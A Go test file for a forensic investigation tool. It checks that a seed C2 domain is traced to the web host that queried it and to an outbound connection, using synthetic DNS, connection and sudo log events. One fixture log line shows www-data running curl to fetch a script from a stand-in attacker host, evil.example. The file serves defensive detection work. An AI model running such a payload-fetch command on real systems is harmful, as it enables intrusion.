package scope_test

import (
	"testing"
	"time"

	"github.com/kiseki-forensics/kiseki/search/internal/testcase"
	"github.com/kiseki-forensics/kiseki/search/scope"
	"github.com/kiseki-forensics/kiseki/timeline"
)

// TestDomainSeed: a seed domain reaches the host that asked for it, not
// the resolver that logged the question; the address its reply gives is an
// outbound address of the intruder, and the next round finds the
// connection to it; a client of no known host, and a domain the logs name
// every day, are look-alikes with their reasons.
func TestDomainSeed(t *testing.T) {
	const day, h, m = 24 * time.Hour, time.Hour, time.Minute
	const c2addr = "198.51.100.23"
	syslog := func(at int64, host, msg string) timeline.Event {
		ev := testcase.Ev(at, host, "syslog")
		ev.Message = msg
		return ev
	}
	evs := []timeline.Event{
		testcase.Web(at(10*h), "cdn", "cloudfront", attacker, "GET", "/", 200),
		// The victim's own site, named every day by the resolver.
		syslog(at(9*h-2*day), "ns01", "dnsmasq[311]: query[A] shop.example from "+dbAddr),
		syslog(at(9*h-day), "ns01", "dnsmasq[311]: query[A] shop.example from "+dbAddr),
		syslog(at(10*h+15*m), "ns01", "dnsmasq[311]: query[A] shop.example from "+dbAddr),
		// The intruder's C2.
		syslog(at(10*h+20*m), "ns01", "dnsmasq[311]: query[A] Evil.Example from "+webAddr),
		syslog(at(10*h+20*m+time.Second), "ns01", "dnsmasq[311]: reply evil.example is "+c2addr),
		testcase.Conn(at(10*h+21*m), webAddr, c2addr, 443, timeline.ActionPermit),
		syslog(at(10*h+30*m), "ns01", "dnsmasq[311]: query[A] evil.example from 10.0.9.9"),
		syslog(at(10*h+40*m), "web01", "sudo: www-data : COMMAND=/usr/bin/curl -s http://evil.example/p.sh"),
	}
	e := env(testcase.Build(t, evs))
	res := run(t, e, 2, attacker, "evil.example", "https://shop.example/")

	hosts := map[string]bool{}
	for _, r := range res.Hosts {
		hosts[r.Name] = true
	}
	if !hosts["web01"] || hosts["ns01"] || hosts["db01"] {
		t.Errorf("hosts %v: want web01 only (the asker, not the resolver; shop.example is routine)", hosts)
	}
	var c2 *scope.RemoteRow
	for i, r := range res.RemoteAddresses {
		if r.Address == c2addr {
			c2 = &res.RemoteAddresses[i]
		}
	}
	if c2 == nil || c2.Direction != "outbound" {
		t.Fatalf("remote addresses %+v: want %s outbound", res.RemoteAddresses, c2addr)
	}
	if c2.Events < 2 {
		t.Errorf("%s: %d events, want the reply and the connection", c2addr, c2.Events)
	}
	seen := map[string]string{}
	for _, s := range res.SeenNotInScope {
		seen[s.Kind+":"+s.Value] = s.Rule
	}
	if seen["address:10.0.9.9"] != scope.RuleDomainUnknown {
		t.Errorf("unknown client: %v", seen)
	}
	if seen["domain:shop.example"] != scope.RuleDomainBaseline {
		t.Errorf("routine domain: %v", seen)
	}
	if last, err := time.Parse(time.RFC3339Nano, res.Window.Last); err != nil || last.UnixNano() < at(10*h+40*m) {
		t.Errorf("window %+v (%v): want it to reach the curl at 10:40", res.Window, err)
	}
}
